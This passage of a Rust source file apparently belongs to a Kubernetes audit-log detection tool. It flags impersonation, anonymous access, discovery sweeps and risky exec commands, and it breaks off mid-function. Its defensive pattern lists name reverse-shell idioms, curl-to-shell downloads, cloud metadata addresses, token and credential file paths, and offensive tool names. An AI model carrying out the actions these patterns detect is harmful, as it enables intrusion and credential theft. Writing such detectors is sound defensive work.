//! The detections' logic: one pass per judged request. Common facts are computed once (who,
//! what, outcome); the request body is parsed only for the resources whose content matters.

use super::catalog::{M_COLLECT, M_CRED_FILES, M_DOWNLOAD, M_METADATA, M_SA_TOKEN, M_SHELL};
use super::pod::{self, PodFacts};
use super::state::State;
use super::{AlertEvent, Hit, Principal, event_ref};
use crate::config::{AuditConfig, any_match};
use crate::event::Event;
use crate::patch;
use crate::time::{self, Micros};
use kubeward_core::Severity::{self, Critical, High, Info, Low, Medium};
use serde_json::Value;
use std::cell::OnceCell;
use std::collections::BTreeSet;

struct Cx<'e, 'a> {
    ev: &'e Event<'a>,
    origin: Option<&'e (std::sync::Arc<str>, u64)>,
    cfg: &'e AuditConfig,
    at: Micros,
    verb: &'e str,
    res: &'e str,
    sub: &'e str,
    ns: &'e str,
    name: &'e str,
    /// The identity acted as.
    user: &'e str,
    /// The key of the identity's windows: the user, or `user (as by <authenticated>)` for an
    /// impersonated request, so an impersonator's requests do not count as the victim's.
    actor: std::borrow::Cow<'e, str>,
    principal: Principal,
    /// The authenticated identity's kind.
    auth_principal: Principal,
    /// Control-plane traffic: authenticated as the control plane or a node, not impersonating.
    system: bool,
    ok: bool,
    denied: bool,
    body: OnceCell<Option<Value>>,
    body_missing: bool,
}

impl Cx<'_, '_> {
    /// The request body as a partial object (JSON patches applied to an empty object).
    fn body(&self) -> Option<&Value> {
        self.body
            .get_or_init(|| self.ev.request_body().map(patch::as_partial_object))
            .as_ref()
    }

    fn raw_body(&self) -> Option<Value> {
        self.ev.request_body()
    }

    fn write(&self) -> bool {
        matches!(self.verb, "create" | "update" | "patch")
    }

    fn delete(&self) -> bool {
        matches!(self.verb, "delete" | "deletecollection")
    }

    fn read(&self) -> bool {
        matches!(self.verb, "get" | "list" | "watch")
    }

    fn obj(&self) -> String {
        match (self.ns.is_empty(), self.name.is_empty()) {
            (false, false) => format!("{}/{}", self.ns, self.name),
            (false, true) => format!("in namespace {}", self.ns),
            (true, false) => self.name.to_string(),
            (true, true) => "(unnamed)".to_string(),
        }
    }

    /// The object's name from the URL, or from the body's metadata on create.
    fn object_name(&self) -> String {
        if !self.name.is_empty() {
            return self.name.to_string();
        }
        self.body()
            .and_then(|b| b.get("metadata"))
            .and_then(|m| m.get("name").or_else(|| m.get("generateName")))
            .and_then(Value::as_str)
            .unwrap_or("")
            .to_string()
    }

    fn named(&self) -> String {
        let n = self.object_name();
        match (self.ns.is_empty(), n.is_empty()) {
            (false, false) => format!("{}/{n}", self.ns),
            (false, true) => format!("in namespace {}", self.ns),
            (true, false) => n,
            (true, true) => "(unnamed)".into(),
        }
    }

    fn code_text(&self) -> String {
        self.ev
            .code()
            .map_or_else(|| "no status".to_string(), |c| c.to_string())
    }

    fn public_sources(&self) -> Vec<String> {
        self.ev
            .source_ips
            .iter()
            .filter(|s| crate::ip::parse(s).is_some_and(crate::ip::is_public))
            .map(|s| s.to_string())
            .collect()
    }

    fn ev_ref(&self) -> AlertEvent {
        event_ref(self.ev, self.origin, self.at)
    }

    /// Scripting clients and kubectl: how a person (or a stolen token) talks to the API.
    fn interactive_agent(&self, st: &mut State) -> bool {
        let ua = self.ev.user_agent();
        ua.starts_with("kubectl") || st.ua_class(ua, ua_class).is_some()
    }
}

/// Runs every detection on one judged request. Returns true when a write whose content the
/// detections read came without a body.
pub(crate) fn run(
    ev: &Event<'_>,
    at: Micros,
    origin: Option<&(std::sync::Arc<str>, u64)>,
    cfg: &AuditConfig,
    st: &mut State,
    hits: &mut Vec<Hit>,
) -> bool {
    let eff = ev.effective_user();
    let user = ev.effective_username();
    let principal = Principal::classify(user, eff.map_or(&[][..], |u| &u.groups[..]), cfg);
    let auth_principal = match ev.user.as_ref() {
        Some(u) => Principal::classify(u.name(), &u.groups, cfg),
        None => Principal::Unknown,
    };
    let impersonating = ev.impersonated().is_some();
    let cx = Cx {
        ev,
        origin,
        cfg,
        at,
        verb: ev.verb(),
        res: ev.resource(),
        sub: ev.subresource(),
        ns: ev.namespace(),
        name: ev.name(),
        user,
        actor: if impersonating {
            std::borrow::Cow::Owned(format!("{user} (impersonated by {})", ev.username()))
        } else {
            std::borrow::Cow::Borrowed(user)
        },
        principal,
        auth_principal,
        system: !impersonating
            && matches!(auth_principal, Principal::ControlPlane | Principal::Node),
        ok: ev.succeeded(),
        denied: ev.denied(),
        body: OnceCell::new(),
        body_missing: false,
    };
    let mut cx = cx;
    identity_detections(&cx, st, hits);
    match (cx.res, cx.sub) {
        ("pods", "exec") => exec(&cx, hits, "KW701"),
        ("pods", "attach") => exec(&cx, hits, "KW702"),
        ("pods", "portforward") => portforward(&cx, hits),
        ("pods", "ephemeralcontainers") => ephemeral(&mut cx, st, hits),
        ("pods", "") => pods_and_workloads(&mut cx, st, hits),
        (r, "") if pod::is_workload(r) => pods_and_workloads(&mut cx, st, hits),
        ("secrets", "") => secrets(&cx, st, hits),
        ("serviceaccounts", "token") => token(&cx, st, hits),
        ("serviceaccounts", "") => service_account(&cx, hits),
        ("rolebindings" | "clusterrolebindings", "") => bindings(&mut cx, st, hits),
        ("roles" | "clusterroles", "") => roles(&mut cx, st, hits),
        ("configmaps", "") => configmaps(&mut cx, hits),
        ("services", "") => services(&mut cx, hits),
        ("ingresses", "") => ingresses(&mut cx, hits),
        ("certificatesigningrequests", s) => csr(&mut cx, s, hits),
        ("mutatingwebhookconfigurations" | "validatingwebhookconfigurations", "") => {
            webhooks(&mut cx, hits)
        }
        ("events", "") => events(&cx, hits),
        ("namespaces", "") => namespaces(&cx, hits),
        ("nodes", "proxy") => node_proxy(&cx, hits),
        ("nodes", "") => nodes(&cx, hits),
        ("selfsubjectrulesreviews" | "selfsubjectaccessreviews", "") => self_review(&cx, hits),
        ("networkpolicies", "") => network_policies(&cx, hits),
        _ => {}
    }
    if cx.verb == "deletecollection" && cx.ok && !cx.system && cx.res != "events" {
        hits.push(Hit::new(
            "KW751",
            format!("{} deleted every {} {}", cx.user, cx.res, cx.obj()),
        ));
    }
    delete_burst(&cx, st, hits);
    cx.body_missing
}

// ---------------------------------------------------------------------------------------------
// Identity and access: KW719, KW720, KW734, KW743, KW747, KW748, KW749, KW750

fn is_health_path(path: &str) -> bool {
    let p = path.trim_end_matches('/');
    ["/healthz", "/livez", "/readyz"]
        .iter()
        .any(|h| p == *h || p.starts_with(&format!("{h}/")))
        || matches!(
            p,
            "/version" | "/.well-known/openid-configuration" | "/openid/v1/jwks"
        )
}

/// User agents of attack and scanning tools (high) and of generic HTTP clients (low).
fn ua_class(ua: &str) -> Option<Severity> {
    let ua_lower = ua.to_ascii_lowercase();
    let ua_lower = ua_lower.as_str();
    const TOOLS: &[&str] = &[
        "kube-hunter",
        "peirates",
        "kubiscan",
        "kubeletctl",
        "kdigger",
        "kubesploit",
        "botb",
        "nuclei",
        "masscan",
        "zgrab",
        "nmap",
        "sqlmap",
        "nikto",
        "gobuster",
        "ffuf",
        "dirbuster",
        "custom-asynchttpclient",
        "l9explore",
        "censysinspect",
        "kubestroyer",
        "kube-bench-attack",
    ];
    const SCRIPTS: &[&str] = &[
        "curl/",
        "wget/",
        "python-requests/",
        "python-urllib/",
        "python-httpx/",
        "aiohttp/",
        "go-http-client/",
        "powershell/",
        "libwww-perl/",
        "okhttp/",
        "java/",
        "axios/",
        "node-fetch",
        "ruby",
        "httpie/",
        "postmanruntime/",
    ];
    if TOOLS.iter().any(|t| ua_lower.contains(t)) {
        Some(High)
    } else if SCRIPTS.iter().any(|t| ua_lower.starts_with(t)) {
        Some(Low)
    } else {
        None
    }
}

fn identity_detections(cx: &Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    let ev = cx.ev;
    let path = ev.path();
    let health = !ev.is_resource_request() && is_health_path(path);
    // Built only when an alert needs them.
    let target = || {
        if ev.is_resource_request() {
            super::object_of(ev).describe()
        } else if path.is_empty() {
            "(no request path)".to_string()
        } else {
            path.to_string()
        }
    };
    let srcs = || ev.source_ips.join(", ");

    // KW719 anonymous requests.
    if cx.principal == Principal::Anonymous {
        let public = !cx.public_sources().is_empty();
        if !health || public {
            let src_key = format!("src:{}", ev.source_ips.first().map_or("", |s| s.as_ref()));
            let verb = cx.verb.to_ascii_uppercase();
            if cx.denied {
                hits.push(
                    Hit::new(
                        "KW719",
                        format!(
                            "anonymous request refused ({}): {verb} {} from {}",
                            cx.code_text(),
                            target(),
                            srcs()
                        ),
                    )
                    .sev(Low)
                    .key(src_key),
                );
            } else if health {
                hits.push(
                    Hit::new("KW719", format!("the API server answers anonymous requests from the public address {} ({verb} {})", srcs(), target()))
                        .sev(Low)
                        .key(src_key),
                );
            } else if ev.is_resource_request()
                || matches!(
                    cx.verb,
                    "create" | "update" | "patch" | "delete" | "deletecollection" | "post" | "put"
                )
            {
                hits.push(
                    Hit::new(
                        "KW719",
                        format!(
                            "anonymous request allowed: {} {} from {}",
                            cx.verb,
                            target(),
                            srcs()
                        ),
                    )
                    .sev(High),
                );
            } else {
                hits.push(
                    Hit::new(
                        "KW719",
                        format!(
                            "anonymous request allowed: {verb} {} from {}",
                            target(),
                            srcs()
                        ),
                    )
                    .sev(Medium),
                );
            }
        }
    }

    // KW720 bursts of refused requests.
    if cx.denied
        && cx.principal != Principal::Unknown
        && !(cx.system && cx.public_sources().is_empty())
    {
        let w = cx.cfg.thresholds.forbidden_burst;
        let key_user = if cx.principal == Principal::Anonymous {
            format!(
                "{}@{}",
                cx.user,
                ev.source_ips.first().map_or("", |s| s.as_ref())
            )
        } else {
            cx.actor.to_string()
        };
        let s = st.id(&key_user, cx.at);
        s.denied.push(cx.at, w.window, true, cx.ev_ref(), None);
        let n = s.denied.count();
        if n >= w.count as usize {
            if s.denied.alerted {
                hits.push(
                    Hit::new("KW720", format!("{} keeps receiving refusals", cx.user))
                        .key("burst")
                        .object(several()),
                );
            } else {
                s.denied.alerted = true;
                let evs = s.denied.events();
                let mut what: Vec<String> = Vec::new();
                for e in &evs {
                    let w = format!("{} {}", e.verb, e.target);
                    if !what.contains(&w) {
                        what.push(w);
                    }
                }
                let shown = what.iter().take(8).cloned().collect::<Vec<_>>().join(", ");
                let more = if what.len() > 8 {
                    format!(" and {} more", what.len() - 8)
                } else {
                    String::new()
                };
                let span = evs.last().map_or(0, |l| l.at) - evs.first().map_or(0, |f| f.at);
                let mut h = Hit::new(
                    "KW720",
                    format!(
                        "{n} requests by {} refused (401/403) within {}: {shown}{more}",
                        cx.user,
                        time::format_duration(span)
                    ),
                )
                .key("burst")
                .object(several());
                h.count = Some(n as u64);
                h.events = evs;
                hits.push(h);
            }
        }
    }

    // KW734 impersonation.
    if let Some(imp) = ev.impersonated()
        && !any_match(&cx.cfg.trusted_impersonators, ev.username())
    {
        let target = imp.name();
        let groups: Vec<&str> = imp.groups.iter().map(|g| g.as_ref()).collect();
        let mut why = Vec::new();
        if groups.contains(&"system:masters") {
            why.push("group system:masters".to_string());
        }
        if target.starts_with("system:") && !target.starts_with("system:serviceaccount:") {
            why.push(format!("the system identity {target}"));
        }
        if let Some(b) = st.privileged_subjects.get(target) {
            why.push(format!("bound to a privileged role by {b}"));
        }
        if any_match(&cx.cfg.admin_users, target) {
            why.push("a configured admin user".into());
        }
        let as_what = if groups.is_empty() {
            target.to_string()
        } else {
            format!("{target} (groups {})", groups.join(", "))
        };
        let desc = target_or(&target_desc_of(ev)).to_string();
        let (sev, msg) = if why.is_empty() {
            (
                Low,
                format!("{} acted as {as_what}: {} {desc}", ev.username(), cx.verb),
            )
        } else {
            (
                High,
                format!(
                    "{} acted as {as_what}, a privileged identity ({}): {} {desc}",
                    ev.username(),
                    why.join("; "),
                    cx.verb
                ),
            )
        };
        hits.push(Hit::new("KW734", msg).sev(sev).key(format!("as:{as_what}")));
    }

    // KW743 users outside the allowed list, admin users.
    if cx.principal == Principal::Person {
        if !cx.cfg.allowed_users.is_empty() && !any_match(&cx.cfg.allowed_users, cx.user) {
            hits.push(
                Hit::new(
                    "KW743",
                    format!(
                        "{} is not in allowed-users: {} {}",
                        cx.user,
                        cx.verb,
                        target()
                    ),
                )
                .key("user"),
            );
        }
        if any_match(&cx.cfg.admin_users, cx.user) {
            hits.push(
                Hit::new(
                    "KW743",
                    format!(
                        "the shared admin account {} was used: {} {}",
                        cx.user,
                        cx.verb,
                        target()
                    ),
                )
                .sev(Low)
                .key("admin"),
            );
        }
    }

    // KW747 discovery bursts.
    if matches!(cx.verb, "list" | "watch")
        && is_sensitive_type(cx.res)
        && cx.sub.is_empty()
        && (cx.principal == Principal::Person
            || cx.principal == Principal::Anonymous
            || (cx.principal == Principal::ServiceAccount && cx.interactive_agent(st)))
    {
        let w = cx.cfg.thresholds.discovery_burst;
        let s = st.id(&cx.actor, cx.at);
        s.discovery
            .push(cx.at, w.window, cx.denied, cx.ev_ref(), Some(cx.res));
        let types = s.discovery.keys(cx.at, w.window);
        if types.len() >= w.count as usize {
            let refused = s.discovery.flagged();
            let total = s.discovery.count();
            let sev = if refused * 2 >= total { Medium } else { Low };
            if s.discovery.alerted {
                hits.push(
                    Hit::new(
                        "KW747",
                        format!("{} keeps sweeping resource types", cx.user),
                    )
                    .sev(sev)
                    .key("discovery")
                    .object(several()),
                );
            } else {
                s.discovery.alerted = true;
                let mut h = Hit::new(
                    "KW747",
                    format!("{} listed {} sensitive resource types within {} ({}); {refused} of {total} requests refused", cx.user, types.len(), time::format_duration(w.window), types.join(", ")),
                )
                .sev(sev)
                .key("discovery")
                .object(several());
                h.count = Some(total as u64);
                h.events = s.discovery.events();
                hits.push(h);
            }
        }
    }

    // KW748 user agents.
    if matches!(
        cx.principal,
        Principal::Person | Principal::Anonymous | Principal::ServiceAccount
    ) && !health
    {
        let ua = ev.user_agent();
        if let Some(sev) = st.ua_class(ua, ua_class)
            && (sev == High || cx.principal != Principal::ServiceAccount)
        {
            let what = if sev == High {
                "an attack or scanning tool"
            } else {
                "a scripting client"
            };
            hits.push(
                Hit::new(
                    "KW748",
                    format!(
                        "{} used the API with {what} ({ua}): {} {}",
                        cx.user,
                        cx.verb,
                        target()
                    ),
                )
                .sev(sev)
                .key(format!("ua:{ua}")),
            );
        }
    }

    // KW749 control-plane and service-account identities from public addresses.
    let auth_user = ev.username();
    if matches!(
        cx.auth_principal,
        Principal::ControlPlane | Principal::Node | Principal::ServiceAccount
    ) && cx.ok
        && !auth_user.starts_with("eks:")
    {
        let public: Vec<String> = cx
            .public_sources()
            .into_iter()
            .filter(|s| {
                crate::ip::parse(s)
                    .is_some_and(|ip| !cx.cfg.trusted_networks.iter().any(|n| n.contains(ip)))
            })
            .collect();
        if !public.is_empty() {
            hits.push(
                Hit::new(
                    "KW749",
                    format!(
                        "{auth_user} ({}) made a request from the public address {}: {} {}",
                        cx.auth_principal.as_str(),
                        public.join(", "),
                        cx.verb,
                        target()
                    ),
                )
                .key(format!("ip:{}", public.join(","))),
            );
        }
    }

    // KW750 threat-list addresses.
    if !cx.cfg.ioc_networks.is_empty() {
        let bad: Vec<String> = ev
            .source_ips
            .iter()
            .filter(|s| {
                crate::ip::parse(s)
                    .is_some_and(|ip| cx.cfg.ioc_networks.iter().any(|n| n.contains(ip)))
            })
            .map(|s| s.to_string())
            .collect();
        if !bad.is_empty() {
            hits.push(
                Hit::new(
                    "KW750",
                    format!(
                        "request from {} (on the threat list) by {}: {} {}",
                        bad.join(", "),
                        if cx.user.is_empty() {
                            "an unknown user"
                        } else {
                            cx.user
                        },
                        cx.verb,
                        target()
                    ),
                )
                .key(format!("ioc:{}", bad.join(","))),
            );
        }
    }
}

/// The object of a windowed alert: many requests, listed in its events.
fn several() -> super::ObjectDesc {
    super::ObjectDesc {
        path: "(several requests: see the events)".into(),
        ..super::ObjectDesc::default()
    }
}

fn target_desc_of(ev: &Event<'_>) -> String {
    if ev.is_resource_request() {
        super::object_of(ev).describe()
    } else {
        ev.path().to_string()
    }
}

fn target_or(s: &str) -> &str {
    if s.is_empty() { "(no target)" } else { s }
}

/// Resource types whose listing is reconnaissance (KW747). (Reads by name are what `kubectl
/// apply` does before every write; sweeps are lists.)
fn is_sensitive_type(res: &str) -> bool {
    matches!(
        res,
        "secrets"
            | "configmaps"
            | "serviceaccounts"
            | "roles"
            | "rolebindings"
            | "clusterroles"
            | "clusterrolebindings"
            | "nodes"
            | "namespaces"
            | "pods"
            | "mutatingwebhookconfigurations"
            | "validatingwebhookconfigurations"
            | "customresourcedefinitions"
            | "certificatesigningrequests"
            | "persistentvolumes"
            | "podsecuritypolicies"
    )
}

// ---------------------------------------------------------------------------------------------
// Exec, attach, port-forward, ephemeral containers: KW701–KW705

/// Control-plane traffic that is routine: the platform working on its own namespaces. (A
/// controller exec'ing into an application's pod is not routine.)
fn routine_system(cx: &Cx<'_, '_>) -> bool {
    cx.system && cx.cfg.is_system_namespace(cx.ns)
}

fn exec(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>, code: &'static str) {
    if routine_system(cx) || cx.denied || !matches!(cx.verb, "create" | "get") {
        return;
    }
    let cmd = cx.ev.exec_command();
    let container = cx.ev.query_values("container").into_iter().next();
    let pod = cx.obj();
    let in_c = container
        .as_deref()
        .map_or(String::new(), |c| format!(" (container {c})"));
    let status = match cx.ev.code() {
        Some(101) | None => String::new(),
        Some(c) => format!("; the API server answered {c}"),
    };
    let joined = shell_join(&cmd);
    let msg = if code == "KW701" {
        if cmd.is_empty() {
            format!("{} exec'd into pod {pod}{in_c}{status}", cx.user)
        } else {
            format!("{} ran `{joined}` in pod {pod}{in_c}{status}", cx.user)
        }
    } else {
        format!("{} attached to pod {pod}{in_c}{status}", cx.user)
    };
    let mut h = Hit::new(code, msg).key(format!("{}|{joined}", cx.obj()));
    if !cmd.is_empty() {
        h.evidence.push(format!("command: {joined}"));
    }
    hits.push(h);
    for (sev, mitre, what) in suspicious_command(&cmd) {
        let mut h = Hit::new(
            "KW703",
            format!(
                "{} ran `{joined}` in pod {pod}{in_c}: {what}{status}",
                cx.user
            ),
        )
        .sev(sev)
        .key(format!("{}|{joined}", cx.obj()))
        .evidence(format!("command: {joined}"));
        h.mitre = Some(mitre);
        hits.push(h);
    }
}

fn shell_join(cmd: &[String]) -> String {
    cmd.iter()
        .map(|a| {
            if a.is_empty() || a.contains(char::is_whitespace) {
                format!("'{a}'")
            } else {
                a.clone()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The suspicious things an exec command does: (severity, techniques, description).
pub(crate) fn suspicious_command(
    cmd: &[String],
) -> Vec<(Severity, &'static [kubeward_core::Mitre], &'static str)> {
    let mut out: Vec<(Severity, &'static [kubeward_core::Mitre], &'static str)> = Vec::new();
    if cmd.is_empty() {
        return out;
    }
    let all = cmd.join(" ");
    let low = all.to_ascii_lowercase();
    let prog = cmd[0].rsplit('/').next().unwrap_or("").to_ascii_lowercase();
    const TOKEN_PATHS: &[&str] = &[
        "/var/run/secrets/kubernetes.io/serviceaccount",
        "/run/secrets/kubernetes.io/serviceaccount",
        "/var/run/secrets/azure/tokens",
        "/var/run/secrets/eks.amazonaws.com/serviceaccount",
        "/var/run/secrets/tokens",
    ];
    if TOKEN_PATHS.iter().any(|p| low.contains(p)) {
        out.push((
            High,
            &[M_SA_TOKEN],
            "reads the service-account token (token theft)",
        ));
    }
    let reverse = low.contains("/dev/tcp/")
        || low.contains("/dev/udp/")
        || (["nc", "ncat", "netcat"].contains(&prog.as_str())
            && (low.contains(" -e") || low.contains(" -c")))
        || low.contains("nc -e")
        || low.contains("ncat -e")
        || low.contains("socat ")
        || low.contains("mkfifo")
        || low.contains("bash -i")
        || low.contains("sh -i");
    if reverse {
        out.push((High, &[M_SHELL], "opens a reverse shell"));
    }
    let fetch = ["curl", "wget"]
        .iter()
        .any(|t| prog == *t || low.contains(&format!("{t} ")));
    if fetch
        && (low.contains("| sh")
            || low.contains("|sh")
            || low.contains("| bash")
            || low.contains("|bash")
            || low.contains("chmod +x"))
    {
        out.push((High, &[M_DOWNLOAD], "downloads and runs code"));
    } else if fetch {
        out.push((Medium, &[M_DOWNLOAD], "downloads a file"));
    }
    const METADATA: &[&str] = &[
        "169.254.169.254",
        "metadata.google.internal",
        "100.100.100.200",
        "fd00:ec2::254",
        "169.254.170.2",
    ];
    if METADATA.iter().any(|m| low.contains(m)) {
        out.push((
            High,
            &[M_METADATA],
            "queries the cloud metadata service (node credentials)",
        ));
    }
    const FILES: &[&str] = &[
        "/etc/shadow",
        "/etc/gshadow",
        "/.ssh/",
        "id_rsa",
        "id_ed25519",
        "/etc/kubernetes/",
        "kubeconfig",
        "/.kube/config",
        "/.aws/credentials",
        "/.config/gcloud",
        "/.azure/",
        "/environ",
        "/var/lib/kubelet/",
        "/etc/ssl/private",
    ];
    if FILES.iter().any(|f| low.contains(f)) {
        out.push((High, &[M_CRED_FILES], "reads sensitive files"));
    }
    // `kubectl cp` from a pod runs `tar cf - <path>`: the archive goes to stdout.
    if prog == "tar" {
        let args: Vec<&str> = cmd[1..].iter().map(String::as_str).collect();
        let create = args.first().is_some_and(|a| {
            let a = a.trim_start_matches('-');
            a.contains('c') && !a.contains('x')
        });
        let to_stdout = args
            .windows(2)
            .any(|w| w[0].trim_start_matches('-').ends_with('f') && w[1] == "-")
            || args.iter().any(|a| *a == "-" || *a == "--to-stdout");
        if create && to_stdout {
            out.push((
                Medium,
                &[M_COLLECT],
                "copies files out of the pod (`kubectl cp`: tar to stdout)",
            ));
        }
    }
    out
}

fn portforward(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if routine_system(cx) || cx.denied {
        return;
    }
    let ports = cx.ev.query_values("ports").join(",");
    let ports = if ports.is_empty() {
        String::new()
    } else {
        format!(" (ports {ports})")
    };
    let status = match cx.ev.code() {
        Some(101 | 200) | None => String::new(),
        Some(c) => format!("; the API server answered {c}"),
    };
    hits.push(Hit::new(
        "KW704",
        format!(
            "{} opened a port-forward to pod {}{ports}{status}",
            cx.user,
            cx.obj()
        ),
    ));
}

fn ephemeral(cx: &mut Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || !matches!(cx.verb, "create" | "update" | "patch") {
        return;
    }
    let images: Vec<String> = cx
        .body()
        .and_then(|b| b.get("spec"))
        .and_then(|s| s.get("ephemeralContainers"))
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|c| c.get("image").and_then(Value::as_str).map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    let img = if images.is_empty() {
        String::new()
    } else {
        format!(" (image {})", images.join(", "))
    };
    let mut h = Hit::new(
        "KW705",
        format!(
            "{} added an ephemeral container to pod {}{img}",
            cx.user,
            cx.obj()
        ),
    );
    h.images = images;
    hits.push(h);
    if cx.body().is_some() {
        pod_checks(cx, st, hits, "pods");
    }
}

// ---------------------------------------------------------------------------------------------
// Pods and workloads: KW706–KW714, KW733, KW737–KW740

fn pods_and_workloads(cx: &mut Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    let kind = pod::kind_of(cx.res);
    if cx.write() && cx.ok {
        if cx.body().is_some() {
            pod_checks(cx, st, hits, cx.res);
        } else if matches!(cx.verb, "create" | "update") {
            cx.body_missing = true;
        }
        if !cx.system {
            rbac_then_workload(cx, st, hits, kind);
            if cx.verb == "create" && cx.cfg.is_system_namespace(cx.ns) && cx.res != "pods" {
                hits.push(Hit::new(
                    "KW712",
                    format!(
                        "{} created {kind} {} in the system namespace {}",
                        cx.user,
                        cx.named(),
                        cx.ns
                    ),
                ));
            }
        }
    }
    if cx.system || !cx.ok {
        return;
    }
    match (cx.res, cx.verb) {
        ("cronjobs", "create" | "update" | "patch") => {
            let cmds = cx
                .body()
                .and_then(|b| pod::pod_spec("cronjobs", b))
                .map(|s| pod::analyze(s, None).commands)
                .unwrap_or_default();
            let runs = cmds.iter().find(|c| downloads_and_runs(c));
            let schedule = cx
                .body()
                .and_then(|b| b.get("spec"))
                .and_then(|s| s.get("schedule"))
                .and_then(Value::as_str)
                .map(|s| format!(" (schedule `{s}`)"))
                .unwrap_or_default();
            let verb = if cx.verb == "create" {
                "created"
            } else {
                "changed"
            };
            let mut h = match runs {
                Some(c) => Hit::new(
                    "KW737",
                    format!(
                        "{} {verb} CronJob {}{schedule} that downloads and runs code: `{c}`",
                        cx.user,
                        cx.named()
                    ),
                )
                .sev(High)
                .evidence(format!("command: {c}")),
                None => Hit::new(
                    "KW737",
                    format!("{} {verb} CronJob {}{schedule}", cx.user, cx.named()),
                ),
            };
            h.key = Some(cx.named());
            hits.push(h);
        }
        ("jobs", "create") if cx.principal == Principal::Person => {
            let cmds = cx
                .body()
                .and_then(|b| pod::pod_spec("jobs", b))
                .map(|s| pod::analyze(s, None).commands)
                .unwrap_or_default();
            match cmds.iter().find(|c| downloads_and_runs(c)) {
                Some(c) => hits.push(
                    Hit::new(
                        "KW737",
                        format!(
                            "{} created Job {} that downloads and runs code: `{c}`",
                            cx.user,
                            cx.named()
                        ),
                    )
                    .sev(High)
                    .evidence(format!("command: {c}")),
                ),
                None => hits.push(
                    Hit::new("KW737", format!("{} created Job {}", cx.user, cx.named()))
                        .sev(Info)
                        .activity(),
                ),
            }
        }
        ("daemonsets", "create") => {
            hits.push(Hit::new(
                "KW738",
                format!(
                    "{} created DaemonSet {}: a pod on every node",
                    cx.user,
                    cx.named()
                ),
            ));
        }
        ("deployments", "create" | "delete") => {
            let v = if cx.verb == "create" {
                "created"
            } else {
                "deleted"
            };
            hits.push(
                Hit::new(
                    "KW740",
                    format!("{} {v} Deployment {}", cx.user, cx.named()),
                )
                .activity(),
            );
        }
        _ => {}
    }
    if cx.verb == "patch"
        && matches!(
            cx.res,
            "deployments" | "daemonsets" | "statefulsets" | "replicasets"
        )
    {
        sidecar(cx, hits);
    }
}

fn downloads_and_runs(cmd: &str) -> bool {
    let l = cmd.to_ascii_lowercase();
    (l.contains("curl") || l.contains("wget"))
        && (l.contains("| sh")
            || l.contains("|sh")
            || l.contains("| bash")
            || l.contains("|bash")
            || l.contains("chmod +x"))
}

fn sidecar(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    let Some(raw) = cx.raw_body() else {
        return;
    };
    let mut added = Vec::new();
    if let Some(ops) = patch::json_patch_ops(&raw) {
        for (op, path, value) in ops {
            if op == "add"
                && (path.contains("/containers/")
                    || path.contains("/initContainers/")
                    || path.ends_with("/containers")
                    || path.ends_with("/initContainers"))
            {
                let name = value
                    .and_then(|v| v.get("name"))
                    .and_then(Value::as_str)
                    .unwrap_or("?");
                if path
                    .rsplit('/')
                    .next()
                    .is_some_and(|s| s == "-" || s.parse::<usize>().is_ok())
                    || path.ends_with("containers")
                    || path.ends_with("Containers")
                {
                    added.push(name.to_string());
                }
            }
        }
    } else if let Some(spec) = pod::pod_spec(cx.res, &raw) {
        for list in ["containers", "initContainers"] {
            for c in spec
                .get(list)
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
            {
                let Some(obj) = c.as_object() else { continue };
                let routine = obj.keys().all(|k| {
                    matches!(
                        k.as_str(),
                        "name"
                            | "image"
                            | "imagePullPolicy"
                            | "resources"
                            | "env"
                            | "$setElementOrder/env"
                            | "$patch"
                    )
                });
                if !routine && obj.get("$patch").is_none() {
                    added.push(
                        obj.get("name")
                            .and_then(Value::as_str)
                            .unwrap_or("?")
                            .to_string(),
                    );
                }
            }
        }
    }
    if !added.is_empty() {
        hits.push(Hit::new(
            "KW739",
            format!(
                "{} patched {} {} to add or redefine container(s) {}",
                cx.user,
                pod::kind_of(cx.res),
                cx.obj(),
                added.join(", ")
            ),
        ));
    }
}

/// The controller service accounts of kube-system (KW713), after Falco's `known_sa_list`.
fn is_controller_sa(sa: &str) -> bool {
    sa.ends_with("-controller")
        || matches!(
            sa,
            "generic-garbage-collector"
                | "resourcequota-controller"
                | "attachdetach-controller"
                | "certificate-controller"
                | "clusterrole-aggregation-controller"
                | "daemon-set-controller"
                | "deployment-controller"
                | "disruption-controller"
                | "endpoint-controller"
                | "expand-controller"
                | "horizontal-pod-autoscaler"
                | "job-controller"
                | "namespace-controller"
                | "node-controller"
                | "persistent-volume-binder"
                | "pod-garbage-collector"
                | "pv-protection-controller"
                | "pvc-protection-controller"
                | "replicaset-controller"
                | "replication-controller"
                | "root-ca-cert-publisher"
                | "route-controller"
                | "service-account-controller"
                | "service-controller"
                | "statefulset-controller"
                | "token-cleaner"
                | "bootstrap-signer"
                | "cronjob-controller"
                | "ttl-controller"
        )
}

fn pod_checks(cx: &mut Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>, res: &str) {
    let Some(body) = cx.body() else {
        return;
    };
    let Some(spec) = pod::pod_spec(if res == "pods" { "pods" } else { res }, body) else {
        return;
    };
    let facts = pod::analyze(spec, body.get("metadata"));
    let kind = pod::kind_of(res);
    let what = if res == "pods" {
        format!("pod {}", cx.named())
    } else {
        format!("{kind} {} (pod template)", cx.named())
    };
    let system_ns = cx.cfg.is_system_namespace(cx.ns);
    let verb = match cx.verb {
        "create" => "created",
        "update" => "replaced",
        _ => "patched",
    };
    // Pods the control plane creates: the platform's own pods in system namespaces are not
    // judged (only their images, KW712); elsewhere they are, folded into the alert on their
    // workload when there was one.
    let controller_pod = cx.system && res == "pods";
    if cx.system && res != "pods" {
        return;
    }
    if controller_pod && system_ns {
        if cx.verb == "create" {
            let untrusted: Vec<&String> = facts
                .images
                .iter()
                .filter(|i| !image_trusted(&cx.cfg.system_images, i))
                .collect();
            if !untrusted.is_empty() {
                let imgs = untrusted
                    .iter()
                    .map(|s| s.as_str())
                    .collect::<Vec<_>>()
                    .join(", ");
                let mut h = Hit::new(
                    "KW712",
                    format!(
                        "{} {verb} {what} in the system namespace {} with image(s) not on the system-images list: {imgs}",
                        cx.user, cx.ns
                    ),
                );
